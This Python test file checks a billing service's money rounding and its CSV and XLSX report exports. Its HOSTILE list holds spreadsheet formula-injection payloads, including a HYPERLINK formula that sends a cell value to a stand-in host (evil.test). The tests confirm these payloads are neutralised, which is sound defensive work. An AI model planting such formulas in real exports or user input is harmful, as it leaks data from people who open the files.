"""What a finance user opens: one rounding rule, unpriced usage flagged, CSV that Excel reads,
XLSX with number formats, and no cell that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from metering.billing import exports, reports
from metering.billing.models import ExportJob
from metering.billing.money import format_money, round_money, total_amount
from metering.billing.spreadsheet import FORMULA_TRIGGERS, safe_cell
from tests.factories import make_key
from tests.worlds import build_world, price, record, roll_up, this_hour

pytestmark = pytest.mark.django_db
HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)",
           "\tcmd", "\rcmd"]


@pytest.fixture
def world(redis_client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return build_world()


def test_the_one_rounding_rule():
    assert round_money(Decimal("0.005"), "USD") == Decimal("0.01")  # half up, not to even
    assert round_money(Decimal("0.0049"), "USD") == Decimal("0.00")
    assert round_money(Decimal("12.5"), "JPY") == Decimal("13")  # no minor unit
    assert round_money(Decimal("1.2345"), "KWD") == Decimal("1.235")  # three
    # A total is the exact sum rounded once (the same in every grouping); rows are allocated.
    rows = [Decimal("0.0053")] * 3
    assert total_amount(rows, "USD") == Decimal("0.02") == round_money(sum(rows), "USD")
    assert format_money(Decimal("1234567.891"), "USD") == "1,234,567.89 USD"
    assert format_money(None, "") == "unpriced"


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_are_neutralised(text):
    assert safe_cell(text) == "'" + text
    assert safe_cell("plain name") == "plain name" and safe_cell(-5) == -5


def _hostile_usage(world):
    now = this_hour()
    price("sim-small", now.replace(day=1, hour=0) - (now - now), "1", "0.1", "3")
    keys = [make_key(world.tenant, name=name)[0] for name in HOSTILE]
    roll_up(*[record(world.tenant, key, "sim-small", now, prompt=1777, completion=3)
              for key in keys], record(world.tenant, None, "unpriced-model", now))
    return now


def _csv_rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def _check_csv(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    for text in HOSTILE:  # shown, never evaluated
        assert any(c.startswith("'" + text) for c in cells), text


def _check_xlsx(data: bytes) -> None:
    book = load_workbook(io.BytesIO(data))
    sheet = book.active
    values = [c for row in sheet.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in values)  # no formula anywhere
    texts = [c.value for c in values if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_TRIGGERS)]
    # (XML stores a carriage return as a line feed; either way it follows the quote.)
    assert all(any(t.startswith("'" + h.replace("\r", "\n")) for t in texts) for h in HOSTILE)
    header = [c.value for c in sheet[2]]
    cost_col = header.index("cost") + 1
    priced = [row for row in sheet.iter_rows(min_row=3) if row[cost_col - 1].value is not None]
    assert priced and all(r[cost_col - 1].number_format == "#,##0.00" for r in priced)
    assert all(r[header.index("requests")].number_format == "#,##0" for r in priced)
    assert sheet.column_dimensions["A"].width >= 16 and sheet.freeze_panes == "A3"


def test_tenant_report_files_are_safe_and_flag_unpriced_usage(client, world):
    now = _hostile_usage(world)
    report = reports.build_report(now, now.replace(minute=59), tenant=world.tenant,
                                  group_by=("key", "model"))
    rows = _csv_rows("".join(reports.csv_lines(report)))
    _check_csv(rows)
    unpriced = next(r for r in rows if r[1] == "unpriced-model")
    assert unpriced[-3:] == ["", "", "unpriced: no price for this model at that hour"]
    buffer = io.BytesIO()
    reports.write_xlsx(report, buffer)
    _check_xlsx(buffer.getvalue())


def test_all_tenant_reports_and_background_exports_are_safe(client, world):
    now = _hostile_usage(world)
    world.users["staff"].is_superuser = True
    world.users["staff"].save()
    client.force_login(world.users["staff"])
    start = now.strftime("%Y-%m-%dT%H:%M:%SZ")
    answer = client.get(f"/api/reports/usage/?start={start}&file=csv")
    _check_csv(_csv_rows(b"".join(answer.streaming_content).decode()))
    _check_xlsx(client.get(f"/api/reports/usage/?start={start}&file=xlsx").content)
    for fmt in ("csv", "xlsx"):
        job = ExportJob.objects.create(tenant=None, start=now, end=now.replace(minute=59),
                                       format=fmt)
        assert exports.run(job.pk)
        job.refresh_from_db()
        data = Path(job.file_path).read_bytes()
        if fmt == "csv":
            _check_csv(_csv_rows(data.decode("utf-8")))
        else:
            _check_xlsx(data)
